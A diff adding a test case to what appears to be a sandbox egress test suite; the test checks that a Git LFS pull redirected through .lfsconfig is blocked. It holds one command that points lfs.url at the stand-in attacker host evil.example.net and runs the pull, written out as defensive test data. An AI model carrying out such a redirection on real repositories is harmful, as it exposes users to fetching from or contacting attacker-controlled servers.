@@ -181,5 +181,19 @@ export default suite<World>({
         assert.ok(!world.seen.slice(before).some(({ call }) => /^PUT |batch.*upload/.test(call)))
       },
     },
+    {
+      name: 'a server that .lfsconfig names elsewhere is not reached',
+      needs: ['git-lfs'],
+      async run(world) {
+        const { out, exitCode } = await inStep(
+          world,
+          'build',
+          `git lfs install --skip-repo; GIT_LFS_SKIP_SMUDGE=1 git clone -q https://${host}/big.git work; cd work
+          git config -f .lfsconfig lfs.url https://evil.example.net/big; git lfs pull`,
+        )
+        assert.notEqual(exitCode, 0, out)
+        assert.match(out, /evil\.example\.net:443[^]*egress/)
+      },
+    },
   ],
 })
